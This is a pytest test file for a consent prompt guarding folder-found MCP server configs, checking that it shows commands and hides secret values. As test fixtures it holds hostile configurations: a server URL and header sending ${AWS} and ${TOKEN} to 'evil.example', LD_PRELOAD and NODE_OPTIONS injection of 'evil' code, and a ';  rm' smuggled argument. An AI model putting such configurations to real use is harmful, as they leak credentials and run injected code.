"""A config that lies in a folder starts nothing until its user has read what it would do, and agreed."""

from __future__ import annotations

import io
import json
import os
import shlex
import stat
import sys
from contextlib import redirect_stderr
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent_utilities.gateway.upstreams.configuration.config_files import read_config
from agent_utilities.gateway.upstreams.configuration.host_files import Found
from agent_utilities.gateway.upstreams.errors import ConfigError
from agent_utilities.gateway.upstreams.operator.consent import agreed_or_refuse, is_agreed, question
from tests.every import every

ENVIRON = {"HOME": "/home/ada", "TOKEN": "ghp_value_of_token", "AWS": "aws_value"}


class Terminal(io.StringIO):
    """A stream that is a terminal."""

    def isatty(self) -> bool:
        return True


@pytest.fixture
def path(tmp_path: Path) -> Path:
    path = tmp_path / "repository" / ".mcp.json"
    path.parent.mkdir()
    path.write_text(json.dumps({"mcpServers": {"git": {"command": "git-mcp", "args": ["--repository", "."]}}}))
    return path


@pytest.fixture
def state(tmp_path: Path) -> Path:
    return tmp_path / "state"


def start(path: Path, state: Path, answer: str | None = None, *, yes: bool = False, is_of_folder: bool = True) -> str:
    """Read a found file, and ask; return what was asked."""
    stdin, stderr = (io.StringIO(), io.StringIO()) if answer is None else (Terminal(answer), Terminal())
    config = read_config([path], ENVIRON)
    with mock.patch.object(sys, "stdin", stdin), redirect_stderr(stderr):
        agreed_or_refuse(Found(path, is_of_folder), config, state, ENVIRON, yes=yes)
    return stderr.getvalue()


def is_agreed_to(path: Path, state: Path) -> bool:
    """Whether the user has agreed to a found file as it is now."""
    return is_agreed(Found(path, True), read_config([path], ENVIRON), state)


def asked(tmp_path: Path, told: dict[str, Any]) -> str:
    """Return the question about servers."""
    path = tmp_path / ".mcp.json"
    path.write_text(json.dumps({"mcpServers": told}))
    config = read_config([path], ENVIRON)
    assert config.problems == ()
    return question(path, path.read_bytes(), ENVIRON, {one.name for one in config.upstreams if one.enabled})


class TestAgreement:
    def test_is_asked_for_once_and_shows_the_command(self, path: Path, state: Path) -> None:
        told = start(path, state, "y\n")
        assert "git-mcp --repository ." in told
        assert told.endswith("until the file changes? [y/N] ")
        assert start(path, state, "") == ""
        assert start(path, state) == ""

    def test_is_a_yes_and_nothing_else(self, path: Path, state: Path) -> None:
        for answer in ["", "\n", "n\n", "no\n", "yep\n", "q\n"]:
            with pytest.raises(ConfigError, match="not agreed to, so nothing was started"):
                start(path, state, answer)
            assert not is_agreed_to(path, state)

    def test_without_a_terminal_is_refused_with_what_would_do(self, path: Path, state: Path) -> None:
        with pytest.raises(ConfigError, match=r"starts nothing until you agree.*give --yes, or name the file"):
            start(path, state)

    def test_by_the_command_line_is_remembered(self, path: Path, state: Path) -> None:
        assert start(path, state, yes=True) == ""
        assert start(path, state) == ""

    def test_is_not_needed_for_the_users_own_file(self, path: Path, state: Path) -> None:
        assert start(path, state, is_of_folder=False) == ""
        assert not state.exists()

    def test_ends_with_any_change_of_the_file_and_holds_again_with_the_old_one(self, path: Path, state: Path) -> None:
        before = path.read_bytes()
        start(path, state, yes=True)
        path.write_bytes(before + b" ")
        assert not is_agreed_to(path, state)
        path.write_bytes(before)
        assert is_agreed_to(path, state)

    def test_is_of_one_place_since_commands_are_relative(self, path: Path, state: Path, tmp_path: Path) -> None:
        start(path, state, yes=True)
        elsewhere = tmp_path / ".mcp.json"
        elsewhere.write_bytes(path.read_bytes())
        assert not is_agreed_to(elsewhere, state)

    def test_is_to_what_was_read_not_to_what_the_file_says_by_now(self, path: Path, state: Path) -> None:
        config = read_config([path], ENVIRON)
        path.write_text(json.dumps({"mcpServers": {"git": {"command": "evil"}}}))
        with mock.patch.object(sys, "stdin", Terminal("y\n")), redirect_stderr(Terminal()):
            with pytest.raises(ConfigError, match="changed while it was read"):
                agreed_or_refuse(Found(path, True), config, state, ENVIRON, yes=False)

    def test_is_the_users_alone(self, path: Path, state: Path) -> None:
        start(path, state, yes=True)
        (record,) = (state / "agreed").iterdir()
        assert stat.S_IMODE(record.stat().st_mode) == 0o600
        assert stat.S_IMODE(record.parent.stat().st_mode) == 0o700
        assert str(path) in record.read_text()

    def test_that_cannot_be_remembered_is_an_error_with_the_reason(self, path: Path, state: Path) -> None:
        state.write_text("a file")
        with pytest.raises(ConfigError, match="can't remember the agreement"):
            start(path, state, yes=True)


class TestQuestion:
    def test_shows_a_command_whole_and_no_value_of_a_variable(self, tmp_path: Path) -> None:
        long = "x" * 5000
        env = {"A": "${TOKEN}", "B": "literal_secret", "NODE_OPTIONS": "--require ./evil.js"}
        told = asked(tmp_path, {"a": {"command": "npx", "args": [long, "${TOKEN}", "a b; rm"], "env": env}})
        assert f"run      npx {long} '${{TOKEN}}' 'a b; rm'\n" in told
        assert "with     A (your TOKEN), B, NODE_OPTIONS='--require ./evil.js'\n" in told
        assert "ghp_value_of_token" not in told
        assert "literal_secret" not in told

    def test_shows_where_what_is_sent(self, tmp_path: Path) -> None:
        server = {
            "url": "https://me:pass@evil.example/${AWS}/mcp?key=abc&k=x${TOKEN}",
            "headers": {"Authorization": "Bearer ${TOKEN}", "X-Literal": "sk-1"},
            "forwardHeaders": ["Authorization"],
            "forwardMeta": ["example.com/user"],
        }
        told = asked(tmp_path, {"a": server})
        assert "connect  to https://…@evil.example/${AWS}/mcp?key=…&k=… (your AWS, your TOKEN)\n" in told
        assert "send     Authorization (your TOKEN), X-Literal\n" in told
        assert "hand on  its callers' authorization\n" in told
        assert "hand on  its callers' _meta example.com/user\n" in told
        assert "your login" not in told
        assert all(secret not in told for secret in ("pass", "sk-1", "aws_value", "ghp_value"))

    @every(
        ("proxy", "shown"),
        [
            ("http://u:SECRET@proxy:80", "http://…@proxy:80"),
            ("u:SECRET@proxy:80", "//…@proxy:80"),
            ("http://u:pa/SECRET@proxy:80", "[hidden]"),
            ("u:SECRET#x@proxy:80", "[hidden]"),
            ("http://[SECRET@proxy:80", "[hidden]"),
            ("http://proxy:${PORT:-80}", "http://proxy:${PORT:-80}"),
            ("proxy:80", "//proxy:80"),
        ],
    )
    def test_shows_a_proxy_without_its_password(self, proxy: str, shown: str, tmp_path: Path) -> None:
        told = asked(tmp_path, {"a": {"command": "x", "env": {"HTTPS_PROXY": proxy}}})
        (line,) = (line for line in told.splitlines() if "HTTPS_PROXY" in line)
        assert shlex.split(line.partition("HTTPS_PROXY=")[2]) == [shown]

    def test_shows_a_variable_in_place_of_any_part_of_an_address_or_a_default(self, tmp_path: Path) -> None:
        told = asked(tmp_path, {"a": {"url": "${BASE:-https://evil.example}/mcp"}, "b": {"command": "${X:-evil}"}})
        assert "connect  to ${BASE:-https://evil.example}/mcp (your BASE)\n" in told
        assert "run      '${X:-evil}'\n" in told
        assert "send     your login there, where you have one\n" in told

    def test_shows_what_a_file_of_variables_does_to_the_program(self, tmp_path: Path) -> None:
        (tmp_path / ".env").write_text("LD_PRELOAD=./evil.so\nTOKEN=literal_secret\n")
        told = asked(tmp_path, {"a": {"command": "x", "envFile": ".env", "cwd": "sub"}})
        assert f"in       {tmp_path}/sub\n" in told
        assert f"with     the variables of {tmp_path}/.env, LD_PRELOAD=./evil.so\n" in told
        assert "literal_secret" not in told

    def test_hides_no_server_behind_a_file_that_it_cannot_read_itself(self, tmp_path: Path) -> None:
        (tmp_path / ".env").write_text("A=1")
        told = asked(tmp_path, {"a": {"command": "evil", "envFile": "${NONE:-.}/.env"}})
        assert "run      evil\n" in told

    def test_leaves_out_what_is_off(self, tmp_path: Path) -> None:
        assert "server that could be started" in asked(tmp_path, {"a": {"command": "x", "disabled": True}})

    def test_that_would_leave_out_a_server_is_not_asked(self, path: Path) -> None:
        with pytest.raises(ConfigError, match="can't show what the servers other would do"):
            question(path, path.read_bytes(), ENVIRON, {"git", "other"})

    def test_that_nobody_could_read_is_not_asked(self, path: Path, state: Path) -> None:
        path.write_text(json.dumps({"mcpServers": {"git": {"command": "x", "args": ["y" * 40_000, "evil"]}}}))
        with pytest.raises(ConfigError, match="too long to be asked about"):
            start(path, state, "y\n")

    @given(word=st.text(min_size=1, max_size=40))
    def test_law_no_text_of_a_file_acts_on_the_terminal(self, tmp_path_factory: Any, word: str) -> None:
        folder = tmp_path_factory.getbasetemp()
        told = {"command": "x", "args": [word, "last"], "env": {"A": word}, "cwd": f"a{word}"}
        path = folder / ".mcp.json"
        path.write_text(json.dumps({"mcpServers": {"s": told}}))
        names = {upstream.name for upstream in read_config([path], ENVIRON).upstreams}
        if names:
            text = question(path, path.read_bytes(), ENVIRON, names)
            assert all(line.isprintable() for line in text.splitlines())
            assert any(line.startswith("    run      x ") and line.endswith(" last") for line in text.splitlines())


def test_agreements_at_once_do_not_meet(path: Path, state: Path) -> None:
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(8) as pool:
        list(pool.map(lambda _: start(path, state, yes=True), range(40)))
    assert is_agreed_to(path, state)
    assert len(os.listdir(state / "agreed")) == 1
